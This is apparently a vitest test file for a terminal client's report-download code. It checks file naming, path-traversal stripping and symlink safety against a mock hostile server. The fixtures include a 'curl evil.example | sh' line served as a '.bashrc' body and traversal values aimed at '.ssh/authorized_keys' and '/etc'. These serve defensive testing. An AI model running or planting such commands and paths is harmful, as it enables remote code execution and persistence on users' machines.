import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient } from '../api/client.js';
import { reportFileName, writeNewFile } from './report-file.js';
import { ReportsApi, type ReportStatus } from './reports-api.js';

// A server may send any strings: the hostile cases below widen the wire's enums on purpose.
const report = (overrides: Partial<Record<keyof ReportStatus, unknown>> = {}): ReportStatus => ({
  id: 'report-a',
  type: 'cluster-overview',
  format: 'markdown',
  namespace: 'team-a',
  status: 'completed',
  progress: 100,
  message: null,
  createdAt: '2026-01-02T09:05:00Z',
  fileName: '.bashrc',
  cluster: 'home',
  completedAt: null,
  conditions: [],
  requester: null,
  size: null,
  ...(overrides as Partial<ReportStatus>),
});

const folder = (): string => mkdtempSync(join(tmpdir(), 'ph-report-file-'));

describe('report downloads in the terminal UI', () => {
  // A hostile service: every download is offered as `.bashrc` with a shell line in it.
  let server: Server;
  let api: ReportsApi;
  beforeAll(async () => {
    server = createServer((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'text/markdown', 'Content-Disposition': 'attachment; filename=".bashrc"' });
      response.end('# report\ncurl evil.example | sh\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    api = new ReportsApi(new ApiClient(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, { session: { token: 't' } }));
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('names the file itself from the report, never after the server (no dotfile), and says where it went', async () => {
    const directory = folder();
    const path = await api.download(report(), directory);
    expect(path).toBe(join(directory, 'cluster-overview-team-a-20260102-0905.md'));
    expect(readdirSync(directory)).toEqual(['cluster-overview-team-a-20260102-0905.md']);
    expect(existsSync(join(directory, '.bashrc'))).toBe(false);
    expect(readFileSync(path, 'utf8')).toContain('# report');
  });

  it('keeps server-sent parts inside the folder and out of dotfile and option names', () => {
    const hostile = reportFileName(report({ type: '../../.ssh/authorized_keys', namespace: '/etc', format: 'sh', createdAt: 'never' }));
    expect(hostile).toBe('ssh_authorized_keys-etc-undated.bin');
    expect(reportFileName(report({ type: '.bashrc', namespace: '', format: 'pdf' }))).toBe('bashrc-cluster-20260102-0905.pdf');
    expect(reportFileName(report({ type: '--help', format: 'constructor' }))).toBe('help-team-a-20260102-0905.bin');
    expect(reportFileName(report({ type: '...', namespace: '..' }))).toBe('report-cluster-20260102-0905.md');
  });

  it('never follows a planted symlink, nor overwrites a file: it takes the next free name', async () => {
    const directory = folder();
    const victim = join(folder(), 'victim');
    writeFileSync(victim, 'precious');
    const name = 'cluster-overview-team-a-20260102-0905.md';
    symlinkSync(victim, join(directory, name));
    symlinkSync(join(folder(), 'not-yet'), join(directory, 'cluster-overview-team-a-20260102-0905-2.md'));
    writeFileSync(join(directory, 'cluster-overview-team-a-20260102-0905-3.md'), 'earlier download');

    const path = await api.download(report(), directory);
    expect(path).toBe(join(directory, 'cluster-overview-team-a-20260102-0905-4.md'));
    expect(lstatSync(path).isFile()).toBe(true);
    expect(readFileSync(victim, 'utf8')).toBe('precious');
    expect(readlinkSync(join(directory, name))).toBe(victim);
    expect(existsSync(readlinkSync(join(directory, 'cluster-overview-team-a-20260102-0905-2.md')))).toBe(false);
    expect(readFileSync(join(directory, 'cluster-overview-team-a-20260102-0905-3.md'), 'utf8')).toBe('earlier download');
  });

  it('writes only into the folder it is given', async () => {
    const directory = folder();
    const path = await writeNewFile(directory, 'a.pdf', new Uint8Array([1, 2]));
    expect(path).toBe(join(directory, 'a.pdf'));
    expect(await writeNewFile(directory, 'a.pdf', new Uint8Array([3]))).toBe(join(directory, 'a-2.pdf'));
  });
});
